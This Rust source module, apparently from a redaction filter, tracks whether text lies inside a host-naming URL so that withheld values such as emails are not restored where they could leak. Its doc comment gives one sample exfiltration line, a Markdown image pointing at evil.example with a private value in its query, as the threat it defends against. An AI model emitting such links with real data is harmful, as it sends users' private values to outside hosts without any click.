//! Knows, character by character, whether a text stands inside a URL that names a host, and behind which address.
//!
//! A value is not restored there, unless policy names the host (see [`super::address`]): `![](https://evil.example/?q=<EMAIL_…>)`
//! is a way out that needs no click. What ends a URL depends on what opened it, because that is how renderers read: a quoted
//! attribute ends at its quote, `<…>` at `>`, a Markdown destination at a blank or its bracket, any other URL at a blank: one
//! in brackets goes on behind them for many a renderer, and so does a destination that has no label. Blanks are
//! those of HTML alone: every other one, and whatever is not seen, is of the URL and sent with it. Where renderers disagree the
//! longer reading counts: a value withheld is a nuisance, a value sent is a leak. In the text of a JSON document its own quotes
//! end every URL. Tabs and ends of lines are taken out of the beginning of a URL, as parsers of URLs do.
//!
//! In attributes of HTML and destinations of Markdown two slashes of either kind begin a host, as browsers read them; in prose a path
//! of Windows (`\\\\server\\share`) is none. Behind a `<base>` that leads elsewhere every attribute and destination leads there. Withheld
//! too is what stands in a share's path in an attribute. The name of a host begins a URL without any slash before it, and so does that of
//! a share, where it has a top-level domain (see [`super::host`]). Out of sight: a `<base>` behind the address, and scripts.
//!
//! A link that writes to somebody (`mailto:`, `sms:`) names nobody that policy knows, and what stands behind its address is what is
//! written: no value is put there. The address itself may be one.
//!
//! It sees the text as the client will: restored values pass through it too, or a planted value could be the beginning of a
//! URL.

mod end;
mod scheme;
mod target;

use super::address::Address;
use super::host::Host;
use super::markup::Markup;
use super::unit::{Landing, Unit};
use end::End;
use scheme::is_letter;
use target::{COMMAND, Target, WIKI};

/// The reader's state after some text.
#[derive(Debug, Clone)]
pub(super) struct Link {
    landing: Landing,
    markup: Markup,
    /// What ends the URL that the text stands in; `None` outside.
    inside: Option<End>,
    /// The same in the address of a link that writes to somebody.
    addressed: Option<End>,
    address: Address,
    /// The last eight characters, lower case, the latest in the low byte; zero for what is not ASCII.
    recent: u64,
    /// The same without what parsers of URLs take out of one.
    joined: u64,
    /// What stood before the run of scheme characters that is being read, blanks apart.
    lead: Mark,
    /// The last character that is not a blank.
    mark: Mark,
    /// Characters of the run.
    run: usize,
    /// The lead and the characters of the run that goes on over what parsers of URLs take out.
    joined_lead: Mark,
    joined_run: usize,
    /// Whether an odd number of backslashes has just been read.
    backslash: bool,
    /// Labels of Markdown links that are open on this line, and whether one has just ended.
    labels: u32,
    labelled: bool,
    /// In the first word between the brackets of a `url(` of CSS.
    css: bool,
    /// A `<base>` leads every address elsewhere that says no host.
    based: bool,
    /// The name of a host that no scheme goes before.
    host: Host,
    /// The target of a link that markup delimits.
    target: Target,
}

/// A character, and whether it was escaped.
pub(super) type Mark = (char, bool);

impl Link {
    pub(super) fn new(landing: Landing) -> Self {
        let nothing = ('\n', false);
        Self {
            landing,
            markup: Markup::default(),
            inside: None,
            addressed: None,
            address: Address::default(),
            recent: 0,
            joined: 0,
            lead: nothing,
            mark: nothing,
            run: 0,
            joined_lead: nothing,
            joined_run: 0,
            backslash: false,
            labels: 0,
            labelled: false,
            css: false,
            based: false,
            host: Host::default(),
            target: Target::default(),
        }
    }

    /// Whether the text stands inside a URL.
    pub(super) fn is_inside(&self) -> bool {
        self.inside.is_some()
            || self.target.is_open()
            || (self.based && (self.is_at_address() || self.markup.is_in_value()))
    }

    /// Whether a number that follows would be of the port of a host.
    pub(super) fn is_at_port(&self) -> bool {
        self.host.is_at_port(is_destination(self.lead))
    }

    /// Whether what follows must be read character by character: in a tag every one may matter.
    pub(super) fn is_watchful(&self) -> bool {
        self.inside.is_some()
            || self.addressed.is_some()
            || self.based
            || self.markup.is_in_tag()
            || self.target.is_watchful()
    }

    /// Whether an address begins with what follows, whatever it is.
    fn is_at_address(&self) -> bool {
        self.css || matches!(self.mark.0, DESTINATION | DEFINITION)
    }

    /// Host and port, where the text stands in a URL that surely leads there, behind its first slash.
    pub(super) fn authority(&self) -> Option<&str> {
        self.inside.and_then(|_| self.address.authority())
    }

    /// Notes that something stands here that is not read: the URL may lead anywhere.
    pub(super) fn spoil(&mut self) {
        self.address.spoil();
    }

    /// Passes one character.
    pub(super) fn pass(&mut self, unit: Unit) {
        let escaped = unit.escaped || self.backslash;
        let cell = matches!(self.mark.0, ',' | ';' | '|' | '"' | '\'');
        self.backslash = unit.char == '\\' && !self.backslash;
        if let Some(end) = self.inside {
            self.inside = self.go_on(end, unit.char, escaped, unit.escaped);
            self.address.pass(unit.char);
        } else {
            self.watch(unit.char, escaped);
            self.write_to(unit.char, escaped, unit.escaped);
        }
        if self.is_structural(unit.char, unit.escaped) {
            (self.markup, self.target) = (Markup::default(), Target::default());
        } else {
            self.target.pass(unit.char, escaped, cell);
            self.markup.pass((unit.char, escaped));
        }
    }

    /// Whether a character is a quote of the JSON document itself.
    fn is_structural(&self, char: char, spelt: bool) -> bool {
        self.landing == Landing::JsonInString && char == '"' && !spelt
    }

    /// Passes what another spelling stands for: it is of the text, and neither opens a URL nor ends one.
    pub(super) fn pass_undone(&mut self, char: char) {
        self.backslash = false;
        if self.inside.is_some() {
            self.address.pass(char);
            return;
        }
        let mark = self.mark;
        self.watch(char, true);
        self.write_to(char, true, true);
        self.target.pass(char, true, false);
        self.mark = mark;
    }

    /// What ends the URL now that this character of it was read; `None` when this one did.
    fn go_on(&mut self, end: End, char: char, escaped: bool, spelt: bool) -> Option<End> {
        if self.is_over(end, char, escaped, spelt) {
            (self.recent, self.joined, self.run, self.joined_run) = (0, 0, 0, 0);
            self.mark = (char, escaped);
            self.css &= char != ')';
            self.host = Host::default();
            return None;
        }
        self.css &= !(end == End::Css && char == ')' && !escaped);
        Some(end.behind(char, escaped))
    }

    /// Whether this character ends the URL.
    fn is_over(&self, end: End, char: char, escaped: bool, spelt: bool) -> bool {
        self.is_structural(char, spelt)
            || match end {
                End::Quote((quote, opened_escaped)) => char == quote && (opened_escaped || !escaped),
                End::Angle => (char == '>' && !escaped) || char == '\n',
                End::Bracket(_, close, depth) => ends_url(char) || (char == close && !escaped && depth == 0),
                End::Css => false,
                End::Blank => ends_url(char),
            }
    }

    /// Follows a link that writes to somebody, whose scheme was read before: behind the address the text stands in its URL. An
    /// entity may spell the mark that ends the address.
    fn write_to(&mut self, char: char, escaped: bool, spelt: bool) {
        let Some(end) = self.addressed else { return };
        if self.inside.is_some() || self.is_over(end, char, escaped, spelt) {
            self.addressed = None;
        } else if matches!(char, '?' | '&' | ';') {
            (self.addressed, self.inside, self.address) = (None, Some(end), Address::default());
        } else {
            self.addressed = Some(end.behind(char, escaped));
        }
    }

    /// Looks for the beginning of a URL.
    fn watch(&mut self, char: char, escaped: bool) {
        let latest = if char.is_ascii() { u64::from(u32::from(char.to_ascii_lowercase())) } else { 0 };
        let (before, joined_before, taken_out) = (self.recent, self.joined, is_taken_out(char));
        self.recent = before << 8 | latest;
        if !taken_out {
            self.joined = joined_before << 8 | latest;
        }
        let of_run = char.is_ascii_alphanumeric() || matches!(char, '+' | '.' | '-' | ':' | '/' | '\\');
        if of_run && self.run == 0 {
            self.lead = self.mark;
        }
        if of_run && self.joined_run == 0 {
            self.joined_lead = self.mark;
        }
        if self.begins(char, (before, joined_before)) {
            self.begin(char, (before, joined_before));
        } else if self.addressed.is_none() && !ends_url(char) {
            self.addressed = self.end_of_letter((before, joined_before));
        }
        self.run = if of_run { self.run.saturating_add(1) } else { 0 };
        if !taken_out {
            self.joined_run = if of_run { self.joined_run.saturating_add(1) } else { 0 };
        }
        let is_over = char == ')' || (is_blank(char) && !matches!(self.mark.0, '(' | '"' | '\''));
        self.css = !is_over && (self.css || (char == '(' && ends_with(before, b"url")));
        if !is_blank(char) {
            let mark = match char {
                '(' if self.labelled => DESTINATION,
                ':' if ends_with(before, b"]") => DEFINITION,
                '<' if matches!(self.mark.0, DESTINATION | DEFINITION) => ANGLE,
                '{' | '[' if !escaped => self.target.opening(char).unwrap_or(char),
                // Written by somebody, they open nothing.
                DESTINATION | DEFINITION | ANGLE | COMMAND | WIKI => char::REPLACEMENT_CHARACTER,
                char => char,
            };
            self.mark = (mark, escaped);
        }
        self.label(if escaped { ' ' } else { char });
        self.host.pass(char);
    }

    /// Whether a URL that names a host begins with this character, of which the text before was read: as it is, and without what is
    /// taken out of one.
    fn begins(&self, char: char, (before, joined): (u64, u64)) -> bool {
        let scheme = |before: u64| !ends_url(char) && (ends_with(before, b"http:") || ends_with(before, b"https:"));
        scheme(before)
            || scheme(joined)
            || (matches!(char, '/' | '\\' | '&') && self.begins_authority(char, before))
            || (char == '.' && self.run == 3 && ends_with(before, b"www"))
            || (char == '\\' && self.css)
            || (char == ':' && self.ends_scheme())
            || (self.based && !is_blank(char) && self.is_at_address())
            || self.host.ends_with(char, is_destination(self.lead))
    }

    /// Whether this colon ends the scheme of a destination that is told neither by its host nor by what it writes: whoever follows
    /// the link hands the rest to a program. One letter is a drive.
    fn ends_scheme(&self) -> bool {
        let is_told = is_letter(self.recent) || ends_with(self.recent, b"http:") || ends_with(self.recent, b"https:");
        self.run > 1 && is_destination(self.lead) && !is_told
    }

    /// Whether the name of a host begins behind this character, the second of two slashes.
    fn begins_authority(&self, char: char, before: u64) -> bool {
        // A letter and a colon are a drive.
        let is_drive = char == '\\' && ends_with(before, b":\\") && self.joined_run == DRIVE_CHARS;
        let is_address = self.markup.is_in_value() || is_destination(self.lead) || is_destination(self.joined_lead);
        !is_drive && (begins_authority(self.recent, is_address) || begins_authority(self.joined, is_address))
    }

    /// Begins a URL with this character.
    fn begin(&mut self, char: char, (before, joined): (u64, u64)) {
        // Of a run that is a URL from its first character on, what opened it is known over every tab.
        let whole = (ends_with(joined, b"https:") && self.joined_run == SCHEME_CHARS)
            || (ends_with(joined, b"http:") && self.joined_run == SCHEME_CHARS - 1)
            || (is_slash(char) && self.joined_run == 1);
        let lead = if whole { self.joined_lead } else { self.lead };
        self.inside = Some(self.end_behind(lead));
        if char != ':' {
            self.target.begin(lead, self.markup.is_form());
        }
        let plain = char == '/' && ends_with(before, b"https:") && self.run == SCHEME_CHARS;
        self.address = if plain { Address::begun() } else { Address::default() };
        self.based |= self.markup.is_base();
    }

    /// What ends a URL whose first run of characters stands behind this mark.
    fn end_behind(&self, lead: Mark) -> End {
        match (end_of(lead), self.markup.quote()) {
            // What a tag tells to go to, at once or in a while, ends with its attribute.
            (End::Blank, Some(quote)) if matches!(lead.0, '=' | ';' | ',') => End::Quote(quote),
            (End::Blank, _) if self.css => End::Css,
            (end, _) => end,
        }
    }

    /// What ends the link that writes to somebody, where the text before is the scheme of one.
    fn end_of_letter(&self, (before, joined): (u64, u64)) -> Option<End> {
        if is_letter(before) {
            return Some(self.end_behind(self.lead));
        }
        is_letter(joined).then(|| self.end_behind(self.joined_lead))
    }

    /// Notes what begins and ends the label of a Markdown link. None is seen where one could be none: over the end of a line,
    /// around code and tags, around another link.
    fn label(&mut self, char: char) {
        let labelled = char == ']' && self.labels > 0;
        self.labels = match char {
            '[' => self.labels.saturating_add(1),
            ']' => self.labels.saturating_sub(1),
            '\n' | '`' | '<' | '>' => 0,
            '(' if self.labelled => 0,
            _ => self.labels,
        };
        self.labelled = labelled;
    }
}

/// Stands for the bracket that opens the destination of a Markdown link.
const DESTINATION: char = '\u{F0000}';

/// Stands for the colon behind a bracket, as in the reference of a Markdown link.
const DEFINITION: char = '\u{F0001}';

/// Stands for `<` in the place of either's address.
const ANGLE: char = '\u{F0002}';

/// Characters of `C:\`.
const DRIVE_CHARS: usize = 3;

/// Characters of `https:`; a longer run that ends in it is another scheme, or none.
const SCHEME_CHARS: usize = 6;

/// Whether the text ends in `://`, or in two slashes that follow no letter or digit; browsers take `\` for `/`. Where an address
/// stands, the second may be spelt as a reference, and the first may be a backslash.
fn begins_authority(recent: u64, is_address: bool) -> bool {
    let [.., before, first, second] = recent.to_be_bytes().map(char::from);
    let double = is_slash(first) && is_slash(second);
    let free = !before.is_ascii_alphanumeric() && !is_slash(before);
    (double && (before == ':' || (first == '/' && free)))
        || (is_address && free && first == '\\' && (is_slash(second) || second == '&'))
}

/// Whether what stands behind this mark is the destination of a Markdown link or the address of a reference.
fn is_destination(lead: Mark) -> bool {
    matches!(lead.0, DESTINATION | DEFINITION | ANGLE)
}

/// What ends a URL that stands behind this mark.
fn end_of(lead: Mark) -> End {
    match lead {
        ('"' | '\'' | '`', _) => End::Quote(lead),
        ('<' | ANGLE, _) => End::Angle,
        (DESTINATION, false) => End::Bracket('(', ')', 0),
        _ => End::Blank,
    }
}

fn ends_with(recent: u64, suffix: &[u8]) -> bool {
    recent.to_be_bytes().ends_with(suffix)
}

fn is_slash(char: char) -> bool {
    matches!(char, '/' | '\\')
}

/// Whether a character ends every URL that nothing else encloses: the blanks of HTML, which Markdown has too. Every other
/// white space, and every other control character, goes on with the URL for one renderer or another.
fn ends_url(char: char) -> bool {
    char.is_ascii_whitespace()
}

/// Whether parsers of URLs take a character out, wherever it stands.
fn is_taken_out(char: char) -> bool {
    matches!(char, '\t' | '\n' | '\r')
}

/// Whether a character in front of a URL is passed over: whatever opened the URL stands before it.
fn is_blank(char: char) -> bool {
    char.is_whitespace() || char.is_control()
}

#[cfg(test)]
mod tests;
